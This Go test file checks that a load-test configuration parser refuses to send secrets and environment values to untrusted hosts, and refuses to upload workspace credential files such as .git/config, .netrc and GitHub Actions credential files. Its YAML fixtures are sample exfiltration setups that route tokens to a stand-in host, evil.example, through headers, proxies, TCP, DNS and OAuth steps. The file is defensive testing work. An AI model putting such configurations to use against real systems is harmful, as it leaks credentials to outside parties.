package slo

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Each value of the environment that would be sent to a host which may not get
// it is an error at its place; the file's own words may go anywhere.
func TestValuesGoToTrustedHosts(t *testing.T) {
	const file = `version: 1
target: http://evil.example
http: {headers: {a: "${secret.TOKEN}", b: "${env.USER}", c: "${env.NONE:-x}", d: "${env.EMPTY:-x}", e: "${uuid}"}}
wait_for: {request: "GET /${env.USER}"}
scenarios:
  - request: POST /
    json: {k: ["a ${secret.TOKEN} b"]}
    headers: {x: plain}
stages: [{name: "of ${env.USER}", requests: 100, workers: 1}]
`
	opts := Options{Path: "slo.yaml", Env: func(name string) (string, bool) {
		value, ok := map[string]string{"TOKEN": "abc", "USER": "ann", "EMPTY": ""}[name]
		return value, ok
	}}
	if _, err := Parse([]byte(file), opts); err != nil {
		t.Fatalf("without a rule: %v", err)
	}
	opts.Trusted = func(host string) bool { return host == "api.example" }
	_, err := Parse([]byte(file), opts)
	want := []string{"slo.yaml:3:22: SLO110: ", "slo.yaml:3:44: SLO110: ", "slo.yaml:4:27: SLO110: ", "slo.yaml:7:19: SLO110: "}
	list, _ := err.(ErrorList)
	if len(list) != len(want) {
		t.Fatalf("error = %v, want %d of them", err, len(want))
	}
	for i, e := range list {
		if !strings.HasPrefix(e.Error(), want[i]) || strings.Contains(e.Error(), "abc") {
			t.Errorf("error %q, want %q", e, want[i])
		}
	}
	for _, trusted := range []string{"http://api.example:8080", "https://api.example"} {
		opts.Target = trusted
		if _, err := Parse([]byte(file), opts); err != nil {
			t.Errorf("%s: %v", trusted, err)
		}
	}
	opts.BaseTarget = "http://evil.example"
	if _, err := Parse([]byte(file), opts); err == nil || !strings.Contains(err.Error(), "must not be sent to the base target") {
		t.Errorf("base target: %v", err)
	}
}

// Behind one address there may be many hosts: the header chooses.
func TestHeaderHostIsAHost(t *testing.T) {
	const file = `version: 1
target: http://api.example
http: {headers: {authorization: "${secret.TOKEN}"}}
scenarios: [{request: GET /, headers: {host: "HOST"}}]
stages: [{name: s, requests: 100, workers: 1}]
`
	opts := Options{
		Path: "slo.yaml", Trusted: func(host string) bool { return host == "api.example" },
		Env: func(string) (string, bool) { return "abc", true },
	}
	for host, want := range map[string]bool{
		"api.example": true, "api.example:8080": true, "evil.example": false, "evil.example:80": false, "api.example@evil.example": false,
		"evil${uuid}.example": false, "${env.HOST}": false,
	} {
		_, err := Parse([]byte(strings.Replace(file, "HOST", host, 1)), opts)
		if (err == nil) != want || err != nil && !strings.Contains(err.Error(), "slo.yaml:3:34: SLO110: the value of \"${secret.TOKEN}\" must not be sent to the host in line 4") {
			t.Errorf("%s: %v, want it sent: %v", host, err, want)
		}
	}
}

// In a stranger's file every variable is a secret.
func TestVariablesOfAStranger(t *testing.T) {
	opts := Options{Path: "slo.yaml", Stranger: true, Env: func(name string) (string, bool) {
		value, ok := map[string]string{"TOKEN": "abcdef", "EMPTY": ""}[name]
		return value, ok
	}}
	for text, want := range map[string]string{
		`name: "${env.TOKEN}"`:                 "slo.yaml:2:8: SLO053: the value of \"${env.TOKEN}\" cannot stand in the name",
		`name: "a ${env.TOKEN:-b}"`:            "slo.yaml:2:10: SLO053",
		`name: "${env.NONE:-a}"`:               "",
		`name: "${env.EMPTY:-a}"`:              "",
		`http: {headers: {a: "${env.TOKEN}"}}`: "",
	} {
		file, err := Parse([]byte("version: 1\n"+text+"\ntarget: http://localhost\n"+oneGet+oneStage), opts)
		switch {
		case want != "":
			if err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %v, want %s", text, err, want)
			}
		case err != nil:
			t.Errorf("%s: %v", text, err)
		case slices.Contains(file.Secrets, "abcdef") != strings.Contains(text, "headers"):
			t.Errorf("%s: secrets %q", text, file.Secrets)
		}
	}
}

// What steps of a workflow leave in the workspace for themselves is not sent.
func TestCredentialsInTheWorkspaceAreNotSent(t *testing.T) {
	dir := t.TempDir()
	for _, path := range []string{".git/config.csv", ".netrc.csv", "gha-creds-1a2b.csv", ".github/rows.csv", "rows.csv"} {
		if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(path)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, path), []byte("a,b\n1,2\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"link.csv": ".git/config.csv", "folder": ".git", "fine.csv": "rows.csv"} {
		if err := os.Symlink(to, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	opts := Options{Path: filepath.Join(dir, "slo.yaml"), Workspace: dir}
	trusting := opts
	trusting.Trusted = func(string) bool { return true }
	for path, want := range map[string]bool{
		"rows.csv": true, ".github/rows.csv": true, "fine.csv": true, "./rows.csv": true,
		".git/config.csv": false, ".netrc.csv": false, "gha-creds-1a2b.csv": false, "link.csv": false, "folder/config.csv": false, "x/../.git/config.csv": false,
	} {
		for _, request := range []string{"{request: POST /, body_file: " + path + "}", "{request: GET /, data: {file: " + path + "}}"} {
			file := []byte("version: 1\ntarget: http://localhost\nscenarios: [" + request + "]\n" + oneStage)
			if _, err := Parse(file, trusting); (err == nil) != want || err != nil && !strings.Contains(err.Error(), "may hold a credential") {
				t.Errorf("%s: %v, want it sent: %v", request, err, want)
			}
			if _, err := Parse(file, opts); err != nil {
				t.Errorf("%s, on the command line: %v", request, err)
			}
		}
	}
}

// Whatever else the file names may get what is sent, too.
func TestOtherServicesMustBeTrusted(t *testing.T) {
	opts := Options{
		Path: "slo.yaml", Trusted: func(host string) bool { return host == "api.example" },
		Env: func(string) (string, bool) { return "abc", true },
	}
	const file = `version: 1
target: TARGET
http: {HTTP}
scenarios: [{steps: [{request: GET /}, STEP]}]
stages: [{name: s, requests: 100, workers: 1}]
`
	const token = `headers: {authorization: "${secret.TOKEN}"}`
	const oauth = `auth: {oauth2: {client_id: a, client_secret: "${secret.TOKEN}", token_url: "https://HOST/token"}}`
	tests := map[string]struct{ http, step, to string }{
		"resolve": {token + `, resolve: {api.example: 192.0.2.7}`, "{request: GET /}", "the address of"},
		"proxy":   {token + `, proxy: "http://evil.example:3128"`, "{request: GET /}", "the proxy"},
		"tcp":     {token, "{tcp: 'evil.example:22'}", "the step"},
		"dns":     {token, "{dns: {server: 'evil.example:53', name: a.example}}", "the step"},
		"tokens":  {strings.Replace(oauth, "HOST", "evil.example", 1), "{request: GET /}", "the token_url"},
	}
	for name, test := range tests {
		text := strings.NewReplacer("TARGET", "http://api.example", "HTTP", test.http, "STEP", test.step).Replace(file)
		if _, err := Parse([]byte(text), opts); err == nil || !strings.Contains(err.Error(), "SLO110: the value of \"${secret.TOKEN}\" must not be sent to "+test.to) {
			t.Errorf("%s: %v", name, err)
		}
	}
	kinds := map[string]string{
		"basic":  `auth: {basic: {user: a, password: "${secret.TOKEN}"}}`,
		"bearer": `auth: {bearer: "${secret.TOKEN}"}`,
		"oauth2": strings.Replace(oauth, "HOST", "api.example", 1),
		"sigv4":  `auth: {sigv4: {region: r, service: s, access_key: a, secret_key: "${secret.TOKEN}"}}`,
		"query":  "timeout: 5s",
	}
	for name, kind := range kinds {
		for target, want := range map[string]bool{"http://api.example": true, "http://evil.example": false} {
			text := strings.NewReplacer("TARGET", target, "HTTP", kind, "STEP", `{request: GET /, query: {a: "${env.A}"}}`).Replace(file)
			if _, err := Parse([]byte(text), opts); (err == nil) != want || err != nil && !strings.Contains(err.Error(), "SLO110") {
				t.Errorf("%s to %s: %v, want it sent: %v", name, target, err, want)
			}
		}
	}
}

// A stranger's file names no service besides those of the workflow, with or
// without values of the environment.
func TestStrangersNameNoOtherServices(t *testing.T) {
	const file = `version: 1
target: http://api.example
http: {HTTP}
scenarios: [{steps: [{request: GET /}, STEP]}]
stages: [{name: s, requests: 100, workers: 1}]
`
	tests := map[string]struct{ http, step string }{
		"resolve": {"resolve: {api.example: 10.0.0.5}", "{request: GET /}"},
		"proxy":   {`proxy: "http://10.0.0.5:3128"`, "{request: GET /}"},
		"tcp":     {"timeout: 5s", "{tcp: '10.0.0.5:22'}"},
		"dns":     {"timeout: 5s", "{dns: {server: '10.0.0.5:53', name: a.example}}"},
		"tokens":  {`auth: {oauth2: {client_id: a, client_secret: "${secret.A}", token_url: "https://10.0.0.5/token"}}`, "{request: GET /}"},
	}
	for name, test := range tests {
		text := strings.NewReplacer("HTTP", test.http, "STEP", test.step).Replace(file)
		for stranger, hosts := range map[bool]string{true: "api.example", false: "api.example 10.0.0.5"} {
			opts := Options{
				Path: "slo.yaml", Stranger: stranger, Env: func(string) (string, bool) { return "abc", true },
				Trusted: func(host string) bool { return slices.Contains(strings.Fields(hosts), host) },
			}
			if _, err := Parse([]byte(text), opts); (err != nil) != stranger || err != nil && !strings.Contains(err.Error(), "the workflow does not name the host of") {
				t.Errorf("%s, a stranger's: %v: %v", name, stranger, err)
			}
		}
	}
}
